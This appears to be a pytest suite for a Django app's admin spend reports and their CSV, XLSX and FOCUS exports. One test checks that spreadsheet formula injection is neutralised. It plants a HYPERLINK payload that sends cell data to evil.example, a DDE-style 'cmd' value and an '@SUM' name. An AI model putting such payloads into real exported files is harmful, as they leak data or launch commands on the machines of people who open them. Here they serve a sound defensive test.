"""The reports: for admins alone, what the filter says, files with the same rows, and totals that are the wallet's."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts import ledger, sheets
from accounts.models import Membership, Wallet
from accounts.models.people import Role
from generations import spend
from generations.spend import exports, files
from generations.states import State
from tests.factories import MembershipFactory, TeamFactory
from tests.generations.spend.conftest import BOATS, WAN, asked, ended, granted, priced, refunded

pytestmark = pytest.mark.django_db
BUCKETS = ("granted", "available", "held", "captured", "expired", "adjusted_out")


@pytest.fixture
def admin() -> Membership:
    return MembershipFactory(team=TeamFactory(name="Northlight"), role=Role.ADMIN)


@pytest.fixture
def wallet(admin: Membership) -> Wallet:
    return granted(admin.team.wallet)


@pytest.fixture
def mika(admin: Membership) -> Membership:
    return MembershipFactory(team=admin.team, user__name="Mika")


@pytest.fixture
def lived(admin: Membership, mika: Membership, wallet: Wallet) -> Wallet:
    """Two members, two engines, three outcomes, one tag, a refund, a hold still open: over the last week."""
    now = timezone.now()
    for days, (who, engine, tag, state) in enumerate([
        (mika, BOATS, "Spring", State.SUCCEEDED), (mika, WAN, "", State.FAILED), (admin, BOATS, "", State.SUCCEEDED),
        (mika, BOATS, "Spring", State.SUCCEEDED), (mika, BOATS, "", State.CANCELED),
    ]):  # fmt: skip
        at = now - timedelta(days=days)
        work = ended(asked(wallet, who.user, engine=engine, tag=tag, at=at), state, at=at)
        priced(work, "0.25")
    refunded(work_of(mika, "Spring"), 20, admin.user, at=now)
    asked(wallet, admin.user, price=30, at=now)
    return wallet


def work_of(who: Membership, tag: str) -> Any:
    return who.user.generations.filter(tag=tag).latest("created_at")


def page(client: Client, who: Membership, query: str = "") -> str:
    client.force_login(who.user)
    response = client.get(f"/reports/{query}")
    assert response.status_code == 200
    return response.content.decode()


def taken(client: Client, who: Membership, file: str) -> list[list[str]]:
    client.force_login(who.user)
    response = client.get(f"/reports/{file}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content)))


def columns(rows: list[list[str]]) -> dict[str, list[str]]:
    return {name: [row[place] for row in rows[1:]] for place, name in enumerate(rows[0])}


def figures(html: str) -> dict[str, str]:
    return dict(re.findall(r'<div class="stat[^"]*"><dt>([^<]+)</dt><dd>([^<]+)</dd>', html))


def test_for_members_and_strangers_there_are_no_reports(
    client: Client, mika: Membership, lived: Wallet
) -> None:
    for address in ("/reports/", "/reports/entries.csv", "/reports/spend.xlsx", "/reports/focus.csv"):
        client.force_login(mika.user)
        assert client.get(address).status_code == 404
        client.force_login(MembershipFactory().user)
        assert client.get(address).status_code == 404
        client.logout()
        assert client.get(address).status_code == 302


def test_the_figures_and_every_table_say_the_same(client: Client, admin: Membership, lived: Wallet) -> None:
    html = page(client, admin)
    said = figures(html)
    assert said["Credits captured, net"] == "130"
    assert said["Taken by fal"] == "$1.25"
    assert said["Clips of 5 asked"] == "3"
    assert said["Success rate"] == "75 %"
    assert said["Credits per accepted second"] == "7.22"
    assert "150 captured \N{MINUS SIGN} 20 refunded" in html
    tables = [
        re.findall(r'data-label="Credits" data-value="(-?\d+)"', part) for part in html.split("<table")[1:]
    ]
    assert {sum(map(int, table)) for table in tables if table} == {130}
    steps = re.search(r'id="time-table">(.*?)</table>', html, re.DOTALL)
    assert steps
    assert sum(map(int, re.findall(r'data-value="(-?\d+)"', steps[1]))) == 130


@pytest.mark.parametrize(
    ("query", "net"),
    [("member={mika}", 80), ("engine=" + BOATS, 130), ("engine=" + WAN, 0), ("tag=Spring", 80), ("tag=-", 50),
     ("member={mika}&tag=-", 0), ("period=today", 30), ("period=all", 130), ("member=999999", 0),
     ("member=%00&engine=%00x&period=nonsense", 0), ("period=custom&first=2020-01-01&last=2020-02-01", 0)],
)  # fmt: skip
def test_the_filter_is_that_of_the_page_and_of_its_files(
    client: Client, admin: Membership, mika: Membership, lived: Wallet, query: str, net: int
) -> None:
    query = "?" + query.format(mika=mika.user_id)
    assert int(figures(page(client, admin, query))["Credits captured, net"]) == net
    report = columns(taken(client, admin, f"spend.csv{query}"))
    assert int(report["net_credits"][-1]) == net == sum(map(int, report["net_credits"][:-1]))
    entries = columns(taken(client, admin, f"entries.csv{query}"))
    assert int(entries["captured_delta"][-1]) == net == sum(map(int, entries["captured_delta"][:-1]))
    focus = columns(taken(client, admin, f"focus.csv{query}"))
    assert sum(map(float, focus["BilledCost"])) == pytest.approx(net / 100)


def test_the_links_to_the_files_carry_the_filter(
    client: Client, admin: Membership, mika: Membership, lived: Wallet
) -> None:
    html = page(client, admin, f"?period=90&member={mika.user_id}&tag=Spring")
    assert f"/reports/entries.csv?period=90&amp;member={mika.user_id}&amp;tag=Spring" in html


def test_entries_sum_up_to_the_wallet_in_csv_and_in_xlsx(
    client: Client, admin: Membership, lived: Wallet
) -> None:
    lived.refresh_from_db()
    rows = columns(taken(client, admin, "entries.csv?period=all"))
    assert len(rows["seq"]) == lived.seq + 1
    for bucket in BUCKETS:
        parts = list(map(int, rows[f"{bucket}_delta"]))
        assert parts[-1] == sum(parts[:-1]) == getattr(lived, bucket), bucket
    response = client.get("/reports/entries.xlsx?period=all")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active  # type: ignore[attr-defined]
    names = [cell.value for cell in sheet[1]]
    for bucket in BUCKETS:
        place = names.index(f"{bucket}_delta") + 1
        values = [sheet.cell(line, place).value for line in range(2, sheet.max_row + 1)]
        assert values[-1] == sum(values[:-1]) == getattr(lived, bucket)


def test_the_report_sums_up_to_the_wallet(client: Client, admin: Membership, lived: Wallet) -> None:
    lived.refresh_from_db()
    assert int(columns(taken(client, admin, "spend.csv?period=all"))["net_credits"][-1]) == lived.captured


def test_nothing_in_a_file_is_a_formula(client: Client, admin: Membership, wallet: Wallet) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    ledger.adjust(wallet, amount=5, actor=admin.user, reason=evil, idempotency_key="evil")
    admin.user.name = "@SUM(1+1)"
    admin.user.save()
    ended(asked(wallet, admin.user, tag="+cmd|' /C calc'!A0", at=timezone.now()), at=timezone.now())
    for file in ("entries.csv", "spend.csv", "focus.csv"):
        for row in taken(client, admin, f"{file}?period=all"):
            assert not any(re.match(r"[=+@\t\r]|-(?!\d)", cell) for cell in row), row
    assert f"'{evil}" in columns(taken(client, admin, "entries.csv?period=all"))["reason"]
    response = client.get("/reports/entries.xlsx?period=all")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    cells = [cell for row in book.active for cell in row]
    assert evil in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n"}, "no cell is a formula"


def test_a_sheet_that_is_full_goes_on_in_the_next() -> None:
    file = files.xlsx_file("Entries", ["n"], ([number] for number in range(25)), most_rows=11)
    with file:
        book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["Entries", "Entries 2", "Entries 3"]
    assert [cell.value for cell in book["Entries 3"]["A"]] == ["n", 20, 21, 22, 23, 24]


def test_a_csv_leaves_in_pieces_and_is_never_whole_in_memory() -> None:
    seen = 0

    def rows() -> Any:
        nonlocal seen
        for number in range(10 * sheets.LINES_AT_ONCE):
            seen = number
            yield [number]

    chunks = sheets.csv_chunks(["n"], rows())
    next(chunks)
    assert seen < 2 * sheets.LINES_AT_ONCE


def test_focus_rows_have_every_column_it_requires(client: Client, admin: Membership, lived: Wallet) -> None:
    rows = columns(taken(client, admin, "focus.csv?period=all"))
    assert tuple(rows) == exports.FOCUS_HEADER
    assert set(rows["BillingCurrency"]) == {"USD"}
    assert set(rows["ChargeCategory"]) == {"Usage"}
    assert set(rows["ServiceCategory"]) == {"AI and Machine Learning"}
    assert rows["BilledCost"] == rows["EffectiveCost"] == rows["ListCost"] == rows["ContractedCost"]
    back = [
        cost
        for cost, kind in zip(rows["BilledCost"], rows["ChargeClass"], strict=True)
        if kind == "Correction"
    ]
    assert back == ["-0.2"]
    assert sum(map(float, rows["x_FalCostUsd"])) == pytest.approx(1.25)
    for start, end in zip(rows["ChargePeriodStart"], rows["ChargePeriodEnd"], strict=True):
        assert datetime.fromisoformat(end) - datetime.fromisoformat(start) == timedelta(days=1)
    assert {"project": "Spring"} in [json.loads(tags) for tags in rows["Tags"]]


def test_the_forecast_names_the_day_on_which_the_wallet_runs_dry(
    client: Client, admin: Membership, wallet: Wallet
) -> None:
    now = timezone.now()
    for days in range(1, 15):
        ended(
            asked(wallet, admin.user, price=5_000, at=now - timedelta(days=days)),
            at=now - timedelta(days=days),
        )
    html = page(client, admin)
    dry_on = (now + timedelta(days=6)).date()
    assert f'<time datetime="{dry_on.isoformat()}">' in html, "30,000 are left at 5,000 a day"
    spend.roll_up_due()
    assert f'<time datetime="{dry_on.isoformat()}">' in page(client, admin)
    left = re.findall(r'id="burn-table">(.*?)</table>', html, re.DOTALL)[0]
    assert [int(n) for n in re.findall(r'data-value="(\d+)"', left)][-6:] == [
        25_000,
        20_000,
        15_000,
        10_000,
        5_000,
        0,
    ]


def test_what_expires_before_it_is_used_is_no_credit_to_count_on(admin: Membership) -> None:
    """1,400 were used at 100 a day; of the gift's 1,000 two days' use counts, the rest expires."""
    now = timezone.now()
    wallet = granted(admin.team.wallet, 1_700)
    for days in range(1, 15):
        at = now - timedelta(days=days)
        ended(asked(wallet, admin.user, price=100, at=at), at=at)
    ledger.grant(
        wallet, amount=1_000, source="promotional", reason="Gift", idempotency_key="gift",
        expires_at=now + timedelta(days=2),
    )  # fmt: skip
    today = now.date()
    burn = spend.burn_down(wallet, first=today, today=today, zone=spend.zone_of(wallet))
    assert burn.per_day == 100
    assert (burn.past, burn.future[0]) == ([(today, 1_300)], (today, 1_300))
    assert burn.expiring == 800
    assert burn.dry_on == today + timedelta(days=5)


def test_the_books_of_a_past_moment(client: Client, admin: Membership, mika: Membership) -> None:
    wallet, at = granted(admin.team.wallet, 500), datetime(2026, 3, 10, 12, tzinfo=UTC)
    ledger.set_budget(
        wallet, user=mika.user, limit_credits=90, period="month", actor=admin.user, reason="Cap", now=at
    )
    work = asked(wallet, mika.user, price=40, at=at)
    ended(work, at=at + timedelta(hours=2))
    said = page(client, admin, "?period=7&at=2026-03-10T13:00")
    past = dict(re.findall(r"<dt>([^<]+)</dt><dd>([^<]+)</dd>", said[said.index("past-figures") :]))
    assert past == {"Available": "460", "Held": "40", "Captured, net": "0", "Granted in all": "500"}
    assert '<input type="hidden" name="period" value="7">' in said
    assert "Give a day and a time" in page(client, admin, "?at=yesterday")
    assert "Give a day and a time" in page(client, admin, "?at=2026-13-45T99:00")


@pytest.mark.parametrize("zone", ["Pacific/Auckland", "America/Los_Angeles"])
def test_days_are_those_of_the_teams_zone(
    client: Client, admin: Membership, wallet: Wallet, zone: str
) -> None:
    type(admin.team).objects.filter(pk=admin.team_id).update(time_zone=zone)
    late = datetime(2026, 3, 10, 11, 30, tzinfo=UTC)
    ended(asked(wallet, admin.user, at=late), at=late)
    day = {"Pacific/Auckland": "2026-03-11", "America/Los_Angeles": "2026-03-10"}[zone]
    query = f"?period=custom&first={day}&last={day}"
    assert figures(page(client, admin, query))["Credits captured, net"] == "50"
    for file in ("spend.csv", "entries.csv"):
        assert len(taken(client, admin, f"{file}{query}")) > 2


def test_a_wrong_period_says_so_and_shows_the_default(
    client: Client, admin: Membership, lived: Wallet
) -> None:
    assert "The first day lies behind the last." in page(
        client, admin, "?period=custom&first=2026-03-02&last=2026-03-01"
    )
    assert "Give both days" in page(client, admin, "?period=custom&first=x")


def test_the_page_asks_as_often_for_a_long_history_as_for_a_short_one(
    client: Client, admin: Membership, mika: Membership, lived: Wallet
) -> None:
    counts = []
    for _ in range(2):
        client.force_login(admin.user)
        with CaptureQueriesContext(connection) as queries:
            client.get("/reports/?period=all")
        counts.append(len(queries))
        for days in range(20):
            at = timezone.now() - timedelta(days=days)
            ended(asked(lived, mika.user, at=at), at=at)
        spend.roll_up_due()
    assert counts[1] <= counts[0] <= 22
